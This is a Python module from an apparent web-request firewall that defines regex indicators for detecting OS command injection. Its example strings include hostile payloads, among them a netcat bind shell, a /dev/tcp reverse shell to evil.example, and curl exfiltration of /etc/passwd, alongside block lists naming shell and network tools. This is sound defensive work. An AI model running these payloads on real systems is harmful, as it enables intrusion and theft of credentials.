"""Operating system commands: a command word where a shell would look for one."""

# ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
from __future__ import annotations

from functools import partial

from guard_wsgi.detection.indicators.indicator import (
    CERTAIN,
    DECISIVE,
    MEDIUM,
    STRONG,
    WEAK,
    Family,
    Indicator,
)

_CWE = "CWE-78"
_OWASP = "OWASP Testing Guide WSTG-INPV-12"
_PATT = "PayloadsAllTheThings, Command Injection"
_GTFO = "GTFOBins and LOLBAS: names of programs"
_CRS = "idea of the CRS 932 family"
_TEX = "PayloadsAllTheThings, LaTeX Injection"

# Words that are commands and hardly anything else; words that are English as well.
COMMANDS = (
    r"(?:cat|tac|nl|wget|curl|ping6?|nslookup|dig|whoami|uname|ifconfig|ipconfig|netstat|ncat|netcat"
    r"|nc|bash|zsh|ksh|csh|tcsh|dash|busybox|chmod|chown|chattr|rm|rmdir|mkdir|mkfifo|mknod|mv|cp|ln"
    r"|ls|dir|ps|pwd|perl|python[23]?|ruby|php\d?|lua|node|nodejs|awk|gawk|sed|grep|egrep|xxd|od|hexdump"
    r"|base64|printf|printenv|env|telnet|tftp|ftp|scp|ssh|socat|nmap|crontab|sudo|su|systeminfo|tasklist"
    r"|taskkill|net1?|reg|regsvr32|rundll32|certutil|bitsadmin|mshta|wmic|cscript|wscript|powershell"
    r"|pwsh|cmd|command|ver|vol|tar|gzip|gunzip|unzip|zip|gcc|make|useradd|usermod|passwd|getent|id"
    r"|expr|tee|xargs|nohup|screen|strace|gdb|vi|vim|nano|ed|lsof|mount|df|du|dd|shutdown|reboot|halt|init"
    r"|traceroute|tracert|arp|route|hostname|finger|last|lastlog|uptime|w|who|sh|rev|sort|head|tail|less|more|find"
    r"|time|timeout|date|touch|echo|sleep|type|test|kill|set|export|eval|exec|source|read|watch|which|host|whereis|start|copy|del|more|attrib|ss|ip)"
)
_HARD = (
    r"(?:wget|curl|nslookup|whoami|ifconfig|ipconfig|netstat|ncat|netcat|chmod|chown|busybox|mkfifo"
    r"|systeminfo|tasklist|taskkill|certutil|bitsadmin|mshta|regsvr32|rundll32|wmic|powershell|pwsh"
    r"|printenv|tcpdump|nmap|socat|useradd|usermod)"
)

# Programs of administrators and builds that can run other programs or read files, and whose names
# are no words of any language.
ADMIN_PROGRAMS = (
    r"(?:ansible(?:-[a-z]+)?|chef-\w+|knife|cscli|aa-(?:exec|disable|enforce|complain|status|teardown)|rmt(?:-\w+)?|visudo|vipw|vigr|apt-get|apt-cache|aptitude|dpkg|dnf|yum|zypper|pacman|rpm2cpio|rpmquery|snap"
    r"|unxz|xzcat|bzcat|zcat|zstd(?:cat|less|grep|mt)?|bunzip2|bzip2|gunzip|gzcat|unzstd|uncompress|cpio|bsdtar|bsdcat|unsquashfs|7za?|7zr|rar|unrar|ar|c89|c99|cc|gcc|g\+\+|clang|gdb|ghci?|jjs|jrunscript"
    r"|cpulimit|flock|htop|atop|iotop|iftop|lastlogin|lastlog|lastcomm|perf|pexec|setarch|setfacl|setlock|setsid|setcap|capsh|chroot|nsenter|unshare|taskset|ionice|chrt|stdbuf|rlwrap|nohup|strace|ltrace|systemctl"
    r"|journalctl|loginctl|busctl|sysctl|dmesg|dmidecode|dmsetup|debugfs|lsblk|blkid|losetup|mkfs(?:\.\w+)?|fdisk|parted|mknod|ldconfig|ldd|modprobe|insmod|rmmod|lsmod|lspci|lsusb|lscpu|runuser|pkexec|doas|sudoedit|useradd"
    r"|userdel|usermod|groupadd|groupmod|chpasswd|chsh|chage|getent|getfacl|gpasswd|newgrp|base32|base58|basenc|uuencode|uudecode|hexdump|xxd|iconv|pkill|pgrep|pidstat|pidof|killall|crontab|atq|iptables|ip6tables|nft|ufw"
    r"|tcpdump|tshark|nmap|hping3|socat|ncat|rsync|scp|sshpass|ssh-keygen|ssh-keyscan|psftp|lftp|ncftp|tftp|wget|curl|lwp-(?:download|request)|aria2c|axel|elinks|lynx|openssl|kubectl|crictl|ctr|podman|buildah|runc"
    r"|docker|terraform|vagrant|virsh|puppet|salt-call|facter|mysqldump|mysqladmin|pg_dump(?:all)?|psql|sqlite3|redis-cli|mongodump|mongosh|tclsh|wish|irb|pry|python[\d.]*|python3-config|pypy\d?|perl[\d.]+|ruby[\d.]+|php[\d.]+|lua[\d.]+"
    r"|nodejs|npx|pwsh|csh|ksh|mksh|tcsh|zsh|fish|ash|dash|rbash|busybox|toybox|gawk|mawk|nawk|byebug|cobc|csvtool|easy_install|efax|eqn|ginsh|gtester|julia|latexmk|msgfilter|multitime|octave|openvpn|pandoc|ptx|restic|run-parts"
    r"|run-mailcap|rview|rvim|vimdiff|scanmem|scrot|start-stop-daemon|tmux|torsocks|troff|whiptail|xmodmap|xdotool|zathura|zsoelim|bcdboot|bcdedit|regedit|schtasks|wevtutil|vssadmin|ntdsutil|cmdkey|nltest|fsutil"
    r"|diskpart|icacls|cacls|takeown|msiexec|odbcconf|installutil|regasm|regsvcs|msbuild|cmstp|dnscmd|esentutl|extrac32|findstr|forfiles|gpscript|gpresult|ieexec|makecab|mavinject|msdt|pcalua|rpcping|syncappvpublishingserver"
    r"|verclsid|winrm|winrs|wsreset|xwizard|whoami|ipconfig|ifconfig|netstat|netsh|nslookup|tasklist|taskkill|systeminfo|iwmi|gwmi|iwr|irm|iex|saps|psexec|mimikatz|certutil|bitsadmin|mshta|regsvr32|rundll32|wmic|printenv)"
)
# Commands that run the program after them.
_PREFIX = r"(?:(?:time|nohup|strace|ltrace|nice|ionice|stdbuf|setsid|timeout\s+\d+\w?|watch|sudo|doas|env|exec|command|busybox)\b[\s;]*)"
_BIN = r"(?:/?(?:usr/)?(?:local/)?s?bin/)"

# Programs whose names are no English words, and commands of the shell itself: they are commands
# after a separator at the beginning of a value, or after a host, a number or a file name.
_PROGRAMS = (
    r"(?:getent|rm|mv|cp|nc|ncat|netcat|ssh|scp|sftp|telnet|tftp|ftp|sudo|doas|ch(?:mod|own|grp|attr)|mkdir|rmdir|dd|tar|zip|unzip|g(?:un)?zip|curl|wget|ping6?|nslookup|dig|whoami|uname|ps|df|du|ls|ln|id|pwd|cat|tac|nl|grep|egrep|sed|g?awk"
    r"|perl|python[\d.]*|ruby|php\d?|lua|node|bash|zsh|ksh|dash|sh|xargs|nohup|setsid|coproc|expr|strace|gdb|gcc|git|docker|kubectl|npm|npx|pip3?|cargo|apt(?:-get)?|yum|dnf|apk|systemctl|crontab|useradd|usermod|passwd|rsync|socat|nmap"
    r"|tcpdump|tmux|vim|nano|tee|xxd|od|base64|openssl|u?mount|uptime|printf|echo|env|printenv|unset|mysql(?:dump)?|psql|mongo(?:sh)?|sqlite3|redis-cli|logger|sendmail|mailx|mutt|ifconfig|netstat|arp|lsof|pkill|killall|pgrep"
    r"|calc|notepad|mspaint|del|erase|ren|xcopy|robocopy|dir|attrib|taskkill|tasklist|shutdown|reboot|cscript|wscript|mshta|certutil|cmd|powershell|pwsh|ipconfig|schtasks|wmic|regsvr32|rundll32|gci|gc|iex|iwr|irm|gwmi|saps|icm|gps|gsv|gal)"
)
# Programs whose names are English words: alone, or with one argument at the end.
_WORDED = r"(?:make|find|sort|head|tail|less|more|kill|sleep|touch|source|script|screen|history|last|free|top|who|w|set|test|type|true|exit|halt|time|date|watch|wall|write|at|host|service|go|split|cut|join|move|start|vol|ver|assoc|cd|read|mount|which|ed|vi|su|mail|copy|ip|eval|exec|trap|timeout|export|alias|md|rd|ri|ni)"
_ONE_ARGUMENT = r"\s+[^\s;|&]+\s*$"
# Usual arguments of programs: a number, a host, a file.
_TARGET = r"(?:\d[\w.:-]*|[\w-]+\.[\w.:/-]+|[\w.-]*/[\w./-]*|localhost)"

# After an argument, a separator that the first pass does not have for all.
_BEHIND_TARGET = tuple(
    rf"[=\x0b\"][\w.:/-]* ?{separator} ?(?:{programs})(?:[ \x0b\"]|$)"
    for separator in ("[;|]", "&&?")
    for programs in (
        "scp|s?ftp|doas|rmdir|(?:un)?zip|gzip|ping6|ln|nl|egrep",
        "lua|ksh|dash|xargs|setsid|coproc|trap|timeout|gcc|git",
        "npx|cargo|apt-get|dnf|apk|rsync|tmux|nano|tee|od",
        "base64|uptime|export|unset|mysqldump|mysql|mongosh?|sqlite3|logger|sendmail",
        "mailx?|mutt|arp|lsof|pgrep|calc|notepad|mspaint|erase|ren",
        "xcopy|robocopy|attrib|taskkill|gci|gc|iwr|irm|gwmi|saps",
    )
)

_BEHIND_LINE = tuple(
    rf"[=\x0b\"][\w.:/-]*{line}[ \t]*(?:{programs}) [\w@./*-]"
    for line in (r"[\r\n]+", r"(?:\\[rn])+")
    for programs in (
        "rm|mv|cp|nc|ncat|ssh|scp|s?ftp|telnet|sudo|doas",
        "chmod|chown|mkdir|rmdir|dd|tar|zip|unzip|curl|wget|ping6?",
        "nslookup|dig|ps|df|du|ln|grep|sed|g?awk|perl|python3?",
        "ruby|php|lua|node|bash|zsh|sh|xargs|eval|exec",
        "nohup|trap|timeout|git|docker|kubectl|npm|npx|pip3?|apt|echo|cat|ls|id|mysql|psql|del|cmd|powershell",
    )
)


_cmd = partial(Family("shell"), "cmd_injection")

# The beginning of a line, as it is and as JSON escapes it.
_LINES = tuple(
    f"{line} *(?:sudo )?(?:/(?:usr/)?s?bin/)?(?:{programs}) "
    for line in (r"\n", r"\\n", r"\r", r"\\r")
    for programs in (
        "cat|tac|head|tail|less|more|nl|rm|mv|cp|tee|touch|chmod|chown|find|grep|dd|tar|ls|crontab",
        "bash|sh|zsh|ksh|dash|source|python3?|perl|php|ruby|node",
        "curl|wget|nc|ncat|telnet|nslookup|dig|ping|ssh|scp|tftp|socat",
    )
)

# Separators as fixed text. Otherwise Hyperscan builds an automaton that reads every byte of every
# request. It alone took 0.3 us per head.
_MARKS = tuple(mark + blank for mark in (";", r"\|", "&") for blank in ("", " "))
_DIGITS = "0123456789"
_LETTERS = "abcdefghijklmnopqrstuvwxyz"
_QUOTED_END = r"[a-z]* [\w./~$*-]"
# JSON and the words of the first pass (prefilter.py) have the other spellings of a backslash.
_QUOTED = (
    *(rf"{mark}(?:'[a-z]+'|\\?\"[a-z]+\\*\"){_QUOTED_END}" for mark in _MARKS),
    *(rf"{mark}\\[a-z]+ [\w./~$*-]" for mark in _MARKS),
    *(rf"[;|&] ?[a-z]{{1,3}}'{letter}[a-z]*'{_QUOTED_END}" for letter in _LETTERS),
    *(rf"[;|&] ?[a-z]{{1,3}}\\\"{letter}[a-z]*\\*\"{_QUOTED_END}" for letter in _LETTERS),
    *(rf"[;|&] ?[a-z]{{1,3}}\\{letter}{_QUOTED_END}" for letter in _LETTERS),
)
_REDIRECTED = (
    *(rf"{mark}{way}[<>]?&? ?[\w./$-]+ \w" for mark in _MARKS for way in "<>"),
    *(rf"{mark}{digit}[<>]{{1,2}}&? ?[\w./$-]+ \w" for mark in _MARKS for digit in _DIGITS),
)

# Where a shell begins a command: behind a separator after nothing or an argument, or in `$(` and
# backticks. Behind any word there is no blank: a sentence has one.
_SEPARATED = r"^(?:" + _TARGET + r"|\w{1,2})?\s*(?:;|\|\|?|&&?)\s*"
_BEGUN = r"(?:" + _SEPARATED + r"|^[\w@.-]+(?:;|\|\|?|&&)|\$\(\s*|^[\w.:/-]*\s?`\s*)"
_KNOWN = (
    r"(?:cat|tac|nl|head|tail|less|more|grep|sed|g?awk|curl|wget|nc|ncat|(?:ba|z|k|da)?sh|python[\d.]*|perl|ruby|php|node|rm|mv|cp|ls|dd|tee"
    r"|touch|chmod|chown|find|tar|base64|xxd|od|id|whoami|uname|pwd|env|echo|printf|kill|ssh|scp|telnet|ping|nslookup|dig|rev|strings|sort)"
)
# What a shell accepts before the program: words of its grammar, assignments, redirections and heads
# of functions. Each ends where the next begins, so there is one reading.
_WORDS_BEFORE = (
    r"(?:(?:exec|command|builtin|coproc|env|nohup|setsid|nice|eval|time|if|while|until|!)\s+(?:-\w+\s+(?:\d+\s+)?)?|(?::\s*;|(?::|true|false)\s*(?:\|\|?|&&))\s*|\w+=\S*\s+"
    r"|\d?[<>]{1,2}&?\s?[\w./$-]+\s+|function\s+\w+\s*\{\s*|\w+\s?\(\)\s*\{\s*)"
)
_ENDED = r"[\s<>;|&)`]"

# fmt: off
SHELL = (
    _cmd(
        "separator_command",
        r"(?:;|\||&&|&|\$\(|<\(|>\()\s*[({\"'`]*\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?" + COMMANDS
        + r"(?:\.exe)?(?:\s*[;|&`)}>\"'\n#]|\s+-{1,2}\w|\s+[/.~$*'\"]|\s*<[^/a-z!]|\$ifs|\$\{ifs|\\\\[nrt]\b)",
        _CWE,
        STRONG, examples=(';id;',)),
    # At the end of a text, only names that are no English words, or that follow their separator at
    # once.
    _cmd(
        "separator_last",
        r"(?:;|\||&&|&|\$\(|<\(|>\()\s*[({\"'`]*\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?"
        r"(?:cat|id|ls|ps|pwd|env|dir|ver|uname|whoami|ifconfig|ipconfig|netstat|hostname|sh|bash|arp|df|du"
        r"|lsof|printenv|systeminfo|tasklist|phpinfo|uptime|sysinfo|reboot|nc|wget|curl)(?:\.exe)?\s*$"
        r"|(?:;|\||&&|&|\$\()" + COMMANDS + r"\s*$",
        _CWE,
        STRONG, examples=(';ps',)),
    _cmd(
        "separator_word",
        r"(?:;|\||&&|`|\$\()\s*" + _HARD + r"\b",
        _CWE,
        WEAK, examples=('"; whoami',)),
    _cmd("separator_argument", r"(?:;|\||&&?|`|\$\()\s*(?:ps\s+(?:aux|-?ef?)\b|dig\s+[@\w]|expr\s+\d|echo\s+[\w-]+\s*[|;&`]|ping\s+(?:-\w|[\w-]+\.\w|localhost)|curl\s+(?:-|https?:|[\w-]+\.\w)|wget\s+(?:-|https?:|[\w-]+\.\w)"
         r"|nslookup\s+\w|net\s+\w|reg\s+(?:add|query|delete|save)|type\s+\w+\.|cat\s+\w+\.|uname\b|sysinfo\b|aptitude\b|reboot\b|mount\s*(?:;|$)|service\s+\w+\s+\w)|(?:;|\||&&?|\$\()\s*(?:(?:apt(?:-get)?|yum|npm|pip3?)\s+(?:install|update|remove)|docker\s+\w|systemctl\s)", _CWE, 0.9, examples=(';uname;',)),
    _cmd("assembled_word", r"(?:^|[;|&])\s*(?:export\s+|set\s+|local\s+)?\w{1,8}=[^;\s]{1,40};.{0,200}\$\w|\w\$\(\)\w|\b(?:c\$\{?[@*]\}?at|ca\$\{?[@*]\}?t|w\$\{?[@*]\}?ho|wh\$\{?[@*]\}?o|who\$\{?[@*]\}?a|i\$\{?[@*]\}?d\b|l\$\{?[@*]\}?s\b|[a-z]{1,8}\$\{?[@*]\}?[a-z]{1,8}[ \t]+[-/~.$\w])", _PATT, STRONG, examples=(';who$@ami',)),
    _cmd("empty_expansion", r"[a-z]\$\{?[@*]\}?[a-z]", _PATT, WEAK, examples=(';who$@ami',)),
    _cmd("backtick_whole", r"^[^\s`]*`\s*" + COMMANDS + r"(?:\s+[-/.~$\w][^`]*)?`\s*$|%x\s*[({\[/]\s*['\"]?" + COMMANDS + r"\b", _PATT, STRONG, examples=('`id`',)),
    _cmd("ampersand_hard_command", r"(?:&|%26|\n)[ \t\x0b\x0c]*" + _HARD + r"\b", _CWE, examples=('& whoami',)),
    _cmd("command_with_argument", r"(?:^|[\s;|&`('\"=])" + _HARD + r"(?:\.exe)?\s+(?:-{1,2}\w|/|\.|https?:|\$|[\w.-]+\.\w{2,}|\d)", _OWASP, examples=('| netstat -an',)),
    # The places where a shell looks for a command; between words of a sentence it is only named.
    _cmd("reader_at_command", r"(?:^|[;|&`(\n\r'\"=$>{,]|\\n|\bsudo\b|\b(?:ba|z|k|da)?sh\s+-c\b|/bin/)[ \t'\"({]*(?:cat|tac|nl|less|head|tail|type|od|xxd|strings|vi|vim|nano|grep|awk|sed|cp|mv|rm|ls|dir|dd)"
         r"(?:[ \t]+-\w+)*(?:[ \t]+|<|\$ifs\$?\d?|\$\{ifs\}|\{|,|\+)\s*[\"']?(?:/(?:etc|proc|var|usr|bin|home|root|tmp|dev|opt|\?)|~/|\.\./|c:\\|\$home|\*|/\*|/$)", _OWASP, 1.1, examples=('| dir C:\\',)),
    _cmd("reader_of_file", r"\b(?:cat|tac|nl|less|head|tail|type|od|xxd|strings|vi|vim|nano|grep|awk|sed|cp|mv|rm|ls|dir|dd)"
         r"(?:[ \t]+-\w+)*(?:[ \t]+|<|\$ifs\$?\d?|\$\{ifs\}|\{|,|\+)\s*[\"']?(?:/(?:etc|proc|var|usr|bin|home|root|tmp|dev|opt|\?)|~/|\.\./|c:\\|\$home|\*|/\*|/$)", _OWASP, WEAK, examples=('| dir C:\\',)),
    _cmd("search_of_files", r"\bfind\s+[/.~]\S*\s+-(?:i?name|perm|exec|type|user|writable|readable|size|mtime|maxdepth)\b|\b[ef]?grep\s+(?:-\w+\s+)*\S{1,40}\s+/(?:etc|proc|var|usr|home|root|tmp|opt)/", _OWASP, STRONG, examples=(';find . -exec id \\;',)),
    _cmd("binary_path", r"/(?:usr/)?(?:local/)?s?bin/\w+|/bin/(?:ba|z|k|c|tc|da)?sh\b", _OWASP, examples=('/bin/ab',)),
    _cmd("shell_dash_c", r"\b(?:ba|z|k|c|da)?sh\s+-[ic]+\b|\bcmd(?:\.exe)?\s*/[ckr]\b|%comspec%\s*/c\b|\bpowershell(?:\.exe)?\s+-|\b(?:python[23]?|perl|ruby|php|node|lua)\s+-[erc]\b", _PATT, STRONG, examples=('|sh -c id',)),
    _cmd("ifs", r"\$\{?ifs\b|\$ifs\$|\{" + COMMANDS + r",[^}\s]{1,60}\}|\{\w{0,3},-\w+\}\w?|\w\{\w?,\w+\}\w", _PATT, STRONG, examples=('{l,-lh}s',)),
    _cmd("brace_expansion", r"\{(?:cat|ls|curl|wget|echo|nc|ping|bash|sh|id|head|tail|uname|sleep),[^}\s]*\}", _PATT, STRONG, examples=('{id,}',)),
    _cmd("substitution", r"\$\(\s*(?:" + COMMANDS + r"\b|[./]|\w+\s+[\w/.~$-])", _CWE, examples=('$(cmd)',)),
    _cmd("backtick", r"`\s*[a-z./][^`]*`", _CWE, WEAK, examples=('`id`',)),
    _cmd("backtick_command", r"`\s*(?:id|ls|cat|whoami|uname|ping|curl|wget|nslookup|sleep|echo|ps|pwd|nc)\b[^`]*`", _CWE, examples=('`id`',)),
    _cmd("redirect_device", r"[<>]\s*&?\s*/dev/(?:tcp|udp|null|zero|random)|/dev/(?:tcp|udp)/|2\s*>\s*&\s*1|>\s*&\s*\d|0\s*<\s*&", _PATT, STRONG, examples=('8000 0>&1"\',shell=True) }}',)),
    _cmd("redirect_file", r"[>|]\s*(?:/(?:tmp|var|etc|dev|home|root)/|\S+\.(?:sh|php|jsp|py|pl|exe)\b)", _PATT, examples=('>/tmp/curl',)),
    _cmd("pipe_shell", r"\|\s*(?:/bin/)?(?:ba|z|k|da)?sh\b|\|\s*(?:perl|python|php|ruby|base64|xxd|nc|tee|xargs|sudo)\b", _PATT, 1.1, examples=('|sh -c id',)),
    _cmd("netcat", r"\b(?:nc|ncat|netcat)(?:\.exe)?\s+(?:-[a-z]+\s*)+|\bnc\s+[\d.]+\s+\d+", _PATT, CERTAIN, examples=('nc -lvvp 4444 -e /bin/sh',)),
    _cmd("ping_count", r"\bping\s+(?:-[nciw]\s*\d+\s+)+|\bping\s+[\d.]+\s*$", _PATT, 0.8, examples=('&ping -n 10 127.0.0.1&',)),
    _cmd("sleep_argument", r"(?:[;|&`(\n'\"]|\$\()\s*sleep[\s+$]+\{?\d+|^\s*sleep[\s+$]+\{?\d+\}?\s*(?:$|[;|&#`])", _PATT, STRONG, examples=(';sleep 5',)),
    _cmd("windows_variable", r"%(?:systemroot|comspec|programfiles|windir|appdata|temp|userprofile|path|pathext|os)(?::~[-\d,]+)?%|\$env:\w+", _PATT, 0.9, examples=('&%COMSPEC% /c dir',)),
    _cmd("windows_net", r"\bnet\s+(?:user|localgroup|group|view|share|start|stop|use|accounts)\b|\breg\s+(?:add|query|delete)\s+hk", _PATT, 0.9, examples=('&&net user',)),
    _cmd("powershell", r"\b(?:invoke-(?:expression|webrequest|command|restmethod|wmimethod)|iex\s*\(|iwr\s|start-process(?:[^\w-]|$)|new-object\s+(?:system\.)?net|downloadstring|downloadfile|encodedcommand|"
         r"executionpolicy|get-(?:childitem|content|process|wmiobject|item)|set-(?:content|item)|out-file|convertto-\w+|"
         r"write-(?:host|output)|frombase64string)", _GTFO, CERTAIN, examples=('|powershell -c "Get-Process"',)),
    _cmd("quote_splice", r"\b\w{0,6}(?:''|\"\"|\\)\w{1,6}(?:''|\"\"|\\)?\w*\s+(?:/|\$|-)|\b(?:c|w|l|n|i|p|u|b|e|s)(?:''|\"\"|'\w'|\"\w\"|\\)+\w+", _PATT, WEAK, examples=("|w'h'o'am'i",)),
    _cmd("wildcard_path", r"/(?:\?{2,}|[a-z]+[?*]+[a-z*?]*|[?*]+[a-z]+[a-z*?]*)/[\w?*.]+|/\[?[a-z]\]?\?\?/", _PATT, 0.9, examples=('/???/?s',)),
    _cmd("environment_slice", r"\$\{?(?:path|home|pwd|shell|hostname|user|bash\w*|ps\d|ifs|random|oldpwd|uid|http_\w+)\}?(?::|\b)", _PATT, WEAK, examples=('${PATH#{}/}',)),
    _cmd("variable_slice", r"\$\{[\w#!@*]+:[-\d ]+(?::\d+)?\}|\$\{\w+(?:##?|%%?|//?)[^}]*\}|\$@|\$\{?[@*]\}?", _PATT, 0.9, examples=('${x#{}}',)),
    _cmd("special_variable", r"\$(?:\(\(|\{?\d\b|'\\)|\$\{?!|\$\$", _PATT, WEAK, examples=('$$b(2)',)),
    _cmd("shellshock", r"^\s*\(\s*\)\s*\{|(?:^|[\s\"'=:,;])\(\s*\)\s*\{\s*(?:[:_]\s*;?|\w{1,8}\s*;)\s*\}|\(\)\s*\{\s*(?:[:_]\s*;|_\[\$)", "CVE-2014-6271", STRONG, examples=('() {',)),
    _cmd("heredoc", r"<<<\s*['\"$\w]|\bprintf\s+['\"]?\\|\becho\s+-[en]+\s", _PATT, 0.9, examples=(';$0<<<id',)),
    _cmd("echo_sequence", r"(?:;|\||&|`|\n|\$\(|^)\s*echo\s+\S", _PATT, examples=('<?=1;echo 1;',)),
    _cmd("chained_conditional", r"(?:;|&&|\|\|)\s*(?:if|for|while|case|do|then)\s+(?:[\[($]|\w+\s+in\s)|\bfor\s+/[fdlr]\s|\bdone\s*(?:;|<)", _CRS, 0.9, examples=('FOR /L %G IN (1,1,5) DO echo %G',)),
    _cmd("os_function", r"\b(?:os\.(?:system|popen|exec\w*|spawn\w*)|subprocess\.(?:call|run|popen|check_output|getoutput)|commands\.getoutput|"
         r"child_process|shell_exec|passthru|proc_open|pcntl_exec|popen|runtime\.(?:getruntime|exec)|getruntime\s*\(|processbuilder|kernel\.(?:exec|system|open)|io\.popen|execsync|spawnsync|os\.execute|winexec|createobject|wscript\.shell)", "CWE-77", STRONG, examples=('os.system',)),
    _cmd("function_command", r"\b(?:system|exec|popen|shell_exec|passthru|eval|spawn|execute)\s*\(?\s*['\"]\s*(?:" + COMMANDS + r"\b|/)", "CWE-77", CERTAIN, examples=("exec('ls')",)),
    _cmd("bare_command_line", r"^[\s&|;`$(]*(?:sudo\s+)?(?:/?(?:usr/)?(?:local/)?s?bin/)?" + COMMANDS
         + r"(?:\.exe)?(?:\s+-{1,2}[a-z]\S*)*(?:\s+(?:/|\.\.?/|~|\*|\$|c:|\d{1,3}\.\d{1,3}\.\d{1,3}\.)\S*)\s*(?:[;|&>#`)'\"]|$)", _OWASP, MEDIUM, examples=('| dir C:\\',)),
    _cmd("bare_command", r"^[\s'\"]*(?:cat|wget|curl|whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|nslookup|ls|dir|ps|pwd|id|phpinfo|hostname|ver|env|set|net\s+user|ps\s+aux|ls\s+-\w+|uname\s+-\w|id\s+-\w|w|arp\s+-a|ps\s+-ef)[\s'\";|&#]*$", _OWASP, WEAK, examples=('id',)),
    _cmd("edge_separator", r"^\s*(?:;|\|\|?|&&?|`|\$\()\s*[\w/.]|\S\s*[;|&`]\s*$", _OWASP, WEAK, examples=('&&',)),
    _cmd("newline_command", r"(?:\n|\r|%0a|%0d|\\n)[ \t\x0b\x0c]*(?:/(?:usr/)?s?bin/)?(?:cat|id|ls|wget|curl|whoami|ping|uname|nc|bash|sh|sleep|ifconfig|ipconfig|dir|netstat|nslookup)(?:\s+[-/\w.]|\s*$|[|&;`%])", _OWASP, examples=('\\nid;',)),
    _cmd("line_of_its_own", r"[\r\n][ \t]*(?:sudo )?(?:/(?:usr/)?s?bin/)?(?:(?:cat|tac|head|tail|less|more|nl|rm|mv|cp|tee|touch|chmod|chown|find|grep|bash|sh|zsh|ksh|dash|source|python3?|perl|php|ruby|node|dd|tar|ls|crontab) (?:-[^\s]+ )*(?:\d+ )?['\"]?(?:/\w|~/|\.[a-z./]|\$[({a-z])|(?:bash|sh|zsh|ksh|dash) \w+[ \t]*(?:[\r\n]|$)|(?:curl|wget|nc|ncat|telnet|nslookup|dig|ping|ssh|scp|tftp|socat) [^\r\n]*(?:\w\.[a-z]{2}|\d\.\d|:/|@/|\$[({a-z]))", _OWASP, 0.45,
         prefilter=_LINES, examples=("x\ncat /etc/passwd\nok", "x\nsh x\nok", "x\ncurl -d @/etc/passwd e.vil\nok", "a\ncat .env\nb", "a\ntail -n 5 /etc/shadow\nb")),
    _cmd("newline_last", r"[\r\n][ \t]*(?:env|id|set|ls|ps|whoami|uname|ver|dir|pwd|netstat|ifconfig|ipconfig|hostname|printenv)\s*(?:;|\||&|`|$)", _OWASP, STRONG, examples=('127.0.0.1\nid',)),
    _cmd("admin_command", r"^[\s'\"\\;|&(`]*" + _PREFIX + r"*" + _BIN + r"?['\"]?" + ADMIN_PROGRAMS + r"['\"]?(?:\.exe)?(?:\s|[;|&<>,/]|$)", _GTFO, MEDIUM, examples=(';htop',)),
    _cmd("admin_alone", r"^\s*" + ADMIN_PROGRAMS + r"\s*$", _GTFO, 0.1, examples=('visudo',)),
    _cmd("admin_argument", r"^[\s'\"\\;|&(`]*" + _PREFIX + r"*" + _BIN + r"?" + ADMIN_PROGRAMS + r"(?:\.exe)?\s+(?:[a-z]+\s+)?(?:-{1,2}[a-z]|/[\w.]|\.{1,2}/|[<>|]|~)", _GTFO, MEDIUM, examples=('| netstat -an',)),
    _cmd("separator_admin", r"(?:;|\||&&|&|\$\()\s*" + _PREFIX + r"?" + _BIN + r"?" + ADMIN_PROGRAMS + r"(?:\.exe)?(?:\s+[-/\w.<>]|\s*$|[;|&`)<>,/])", _GTFO, MEDIUM, examples=(';htop',)),
    _cmd("leading_separator_admin", r"^[\s'\"]*(?:;|\|\|?|&&?|\$\()\s*" + _PREFIX + r"?" + _BIN + r"?" + ADMIN_PROGRAMS + r"\b", _GTFO, STRONG, examples=(';htop',)),
    _cmd("relative_program", r"^(?:usr/(?:local/)?)?s?bin/(?:" + ADMIN_PROGRAMS + r"|" + COMMANDS + r"|chef)\s*$", _GTFO, STRONG, examples=('bin/sh',)),
    _cmd("prefixed_program", r"^[\s'\"]*" + _PREFIX + r"+" + _BIN + r"?(?:(?:ba|z|k|c|da)?sh\s+-\w|" + ADMIN_PROGRAMS + r"\b|" + _HARD + r"\b)", _GTFO, STRONG, examples=('time bsdtar ',)),
    _cmd("quoted_program", r"^\s*(?:\"" + ADMIN_PROGRAMS + r"\"|'" + ADMIN_PROGRAMS + r"')\s+[\w-]", _GTFO, STRONG, examples=("'cscli' alerts list",)),
    _cmd("change_directory", r"(?:^|[;|&`(])\s*cd\s+[/~.\w-]{1,60}\s*;\s*\w", _OWASP, CERTAIN, examples=('cd /;cd etc;fold passwd\n',)),
    _cmd("shell_variable", r"\$\{?(?:shell|bash|0)\}?\s+-[ci]\b|\b(?:ba|z|k|c|da)?sh\$\{?\w+\}?\s+-c|[;|&`]\s*\$\w{1,8}\s+" + _HARD + r"\b", _PATT, DECISIVE, examples=('|$u wget test',)),
    _cmd("shell_string", r"\b(?:ba|z|k|c|da|a)?sh\b.{0,24}?[\s,]-?c[\s,]+\\?['\"]?(?:" + _HARD + r"|id|ls|cat|echo|sh|bash|python\d?|perl|php|nc)\b|\b(?:gcc|cc|c89|c99|clang)\s+-wrapper\b", _GTFO, DECISIVE, examples=('|sh -c id',)),
    _cmd("directory_tilde", r"^~[-+ ]\d*$", "bash manual: tilde expansion", STRONG, examples=('~+',)),
    _cmd("history_event", r"^!-\d+$|^(?:!-?\d+){2,}$", "bash manual: history expansion", STRONG, examples=('!-1!-2',)),
    _cmd("brace_list", r"\{,[\w./-]+(?:,[\w./-]*)*\}|\{\w+(?:,-\w+)+\}", "bash manual: brace expansion", CERTAIN, examples=('{,ip,a}',)),
    _cmd("brace_word", r"^\w+\{\w{0,8},\w{0,8}\}\w*$", "bash manual: brace expansion", STRONG, examples=('c{a,oun}t',)),
    _cmd("escaped_program", r"^\s*\\(?:" + COMMANDS + r"|" + ADMIN_PROGRAMS + r")(?:\s|$)", _GTFO, STRONG, examples=('\\ls',)),
    _cmd("socket_file", r"[<>&]\s*['\"]?[\w/$]*/(?:tcp|udp)/[\w.${}:-]{1,80}/[\w$]", _PATT, CERTAIN, examples=('exec 5<>/dev/tcp/8.8.8.8/80', 'bash -i >& /dev/tcp/evil.example/80 0>&1')),
    _cmd("trap", r"[;|&]\s*trap\s+['\"]", _GTFO, DECISIVE, examples=(";trap 'rm -rf file.txt' SIGEXIT",)),
    _cmd("registry_hive", r"\bregedit(?:\.exe)?\s+/[a-z]|\bhk(?:ey_(?:current_user|local_machine|classes_root|users)|cu|lm)\\", "LOLBAS", 0.8, examples=('cmd=; regedit /E c:\\ads\\file.txt:regfile.reg HKEY_CURRENT_USER\\MyCustomRegKey',)),
